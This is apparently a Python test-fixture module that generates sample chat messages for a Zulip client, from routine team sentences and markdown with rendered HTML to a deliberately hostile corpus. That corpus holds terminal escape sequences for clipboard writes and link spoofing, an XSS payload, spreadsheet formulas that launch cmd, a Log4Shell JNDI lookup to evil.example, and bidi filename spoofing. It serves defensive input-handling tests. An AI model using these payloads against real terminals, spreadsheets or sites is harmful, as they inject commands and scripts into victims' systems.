"""What people write: plain sentences, richer pieces, and messages that are hostile on purpose."""

from __future__ import annotations

import html
from dataclasses import dataclass
from random import Random

_THINGS = (
    "the nightly build", "the login page", "the invoice template", "the water pump", "the staging server",
    "the quarterly report", "the search index", "the onboarding guide", "the coffee machine", "the backup job",
    "the press release", "the door code", "the mobile app", "the price list", "the test suite", "the newsletter",
    "the meeting room", "the data export", "the style guide", "the upload limit", "the certificate", "the rota",
    "the translation", "the old wiki", "the retention policy", "the microscope", "the survey", "the database",
)  # fmt: skip
_SENTENCES = (
    "I looked at {} again and it behaves much better since yesterday.",
    "Could somebody with fresh eyes check {} before Thursday?",
    "We agreed in the meeting that {} waits until the next release.",
    "Good news about {}: the vendor answered and the fix is on its way.",
    "Does anyone remember why {} was changed last spring?",
    "My notes on {} are in the shared folder, comments are welcome.",
    "I would rather not touch {} on a Friday.",
    "There is a small regression in {}; I can reproduce it on two machines.",
    "Thanks for taking care of {}, that saved me an afternoon.",
    "Please do not restart {} while the import is running.",
    "The customer asked about {} for the third time this month.",
    "Let us measure {} first and argue afterwards.",
    "If nobody objects I will merge the change to {} at noon.",
    "It turns out that {} depends on a setting that nobody documented.",
)
_SHORT = (
    "Thanks!", "Sounds good to me.", "On it.", "Done.", "I agree.", "Let me check and come back to you.",
    "Can we talk about this tomorrow?", "Works here.", "+1", "No objections.", "Sorry, I missed that.",
    "Let's do it.", "Is this still open?", "Fixed, please try again.", "Grüße aus dem Zug 🚆", "また明日",
)  # fmt: skip
SENTENCES = tuple(sentence.format(thing) for sentence in _SENTENCES for thing in _THINGS)


@dataclass(frozen=True)
class Text:
    """A message body as it is typed and as Zulip renders it."""

    content: str
    rendered: str
    link: bool = False


def paragraph(text: str) -> Text:
    """Plain text, rendered as Zulip would: paragraphs, line breaks, escaped HTML."""
    blocks = [
        "<p>" + html.escape(block, quote=False).replace("\n", "<br>\n") + "</p>"
        for block in text.split("\n\n")
        if block
    ]
    return Text(text, "\n".join(blocks))


_RICH = (
    Text(
        "The plan:\n\n* measure\n* fix\n* measure again",
        "<p>The plan:</p>\n<ul>\n<li>measure</li>\n<li>fix</li>\n<li>measure again</li>\n</ul>",
    ),
    Text(
        "```python\nfor row in rows:\n    print(row)\n```",
        '<div class="codehilite" data-code-language="Python"><pre><span></span><code>for row in rows:\n'
        "    print(row)\n</code></pre></div>",
    ),
    Text(
        "See [the ticket](https://tickets.acme.example/4711) for **all** details.",
        '<p>See <a href="https://tickets.acme.example/4711">the ticket</a> for <strong>all</strong> details.</p>',
        True,
    ),
    Text(
        "https://docs.acme.example/handbook/backup",
        '<p><a href="https://docs.acme.example/handbook/backup">https://docs.acme.example/handbook/backup</a></p>',
        True,
    ),
    Text(
        "Ship it :tada:",
        '<p>Ship it <span aria-label="tada" class="emoji emoji-1f389" role="img" title="tada">:tada:</span></p>',
    ),
    Text(
        "| name | hours |\n|---|---|\n| build | 3 |",
        "<table>\n<thead>\n<tr>\n<th>name</th>\n<th>hours</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>build</td>\n"
        "<td>3</td>\n</tr>\n</tbody>\n</table>",
    ),
    Text(
        "Call at <time:2026-03-04T15:00:00Z>?",
        '<p>Call at <time datetime="2026-03-04T15:00:00Z">2026-03-04T15:00:00Z</time>?</p>',
    ),
    Text("~~Monday~~ Tuesday", "<p><del>Monday</del> Tuesday</p>"),
    Text("> as agreed\n\nindeed", "<blockquote>\n<p>as agreed</p>\n</blockquote>\n<p>indeed</p>"),
)

HOSTILE_BODIES = (
    "clipboard: \x1b]52;c;SGVsbG8=\x07 and with ST \x1b]52;c;SGVsbG8=\x1b\\ done",
    "clear: \x1b[2J\x1b[H\x1b[31mred\x1b[0m title \x1b]0;owned\x07",
    "C1: \x9b2J\x9b31m and \x9d52;c;SGVsbG8=\x9c",
    "alternate screen \x1b[?1049h\x1b[?1003h mouse \x1bc reset \x1bP+q544e\x1b\\ query \x1b[6n",
    "<script>alert('x')</script><img src=x onerror=alert(1)> & entities &amp; &lt;",
    "=cmd|' /C calc'!A0",
    "+1+1\tand a tab",
    "-2+3*cmd|' /C notepad'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "[bold]not bold[/bold] [link=https://evil.example]here[/] [@click=app.quit]quit[/] a[/]b [",
    "bidi \u202egnp.exe\u202c isolate \u2066\u2067abc\u2069\u2069 marks \u200e\u200f\u061c",
    "zero\u200bwidth\u200d\u2060joiner\ufeff tag \U000e0041\U000e007f",
    "stack Z" + "\u0301\u0327\u0338\u0489" * 40 + "lgo",
    "carriage\rreturn and bell \x07 backspace abc\x08\x08\x08 delete \x7f form \x0c vertical \x0b",
    "line\u2028separator\u2029paragraph \x85 next line",
    "non-characters \ufdd0 \U0001fffe \U0010ffff private \ue000 replacement \ufffd",
    "all controls: " + "".join(map(chr, [*range(1, 32), *range(127, 160)])),
    "backslashes \\ \\n \\t \\N \\. and quotes ' \" ` $",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s%n {0} %(name)s",
    "\\.\n\\N",
    "👩\u200d👩\u200d👧\u200d👦 🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f é e\u0301 ﷽",
    "one line\n\n\n\n\n\nfive lines later",
    "https://evil.example/\x1b]8;;https://other.example\x1b\\click\x1b]8;;\x1b\\",
    ("This message has ten thousand characters. " * 250)[:10_000],
    "W" * 900 + " no place to break",
)
HOSTILE_TOPICS = (
    "[/] topic", "=1+1", "topic \u202ecipot", "zero\u200bwidth", "\x1b]52;c;SGVsbG8=\x07", "\x9b2J",
    "a" * 60, "<b>html</b>", "tab\tin topic",
)  # fmt: skip


def compose(chance: Random) -> Text:
    """An ordinary message: mostly one to four sentences, sometimes something richer."""
    kind = chance.random()
    if kind < 0.15:
        return paragraph(_SHORT[int(chance.random() * len(_SHORT))])
    if kind > 0.94:
        rich = _RICH[int(chance.random() * len(_RICH))]
        lead = SENTENCES[int(chance.random() * len(SENTENCES))]
        return Text(f"{lead}\n\n{rich.content}", f"<p>{lead}</p>\n{rich.rendered}", rich.link)
    count = 1 + int(4 * chance.random() ** 2)
    body = " ".join([SENTENCES[int(chance.random() * len(SENTENCES))] for _ in range(count)])
    return Text(body, f"<p>{body}</p>")
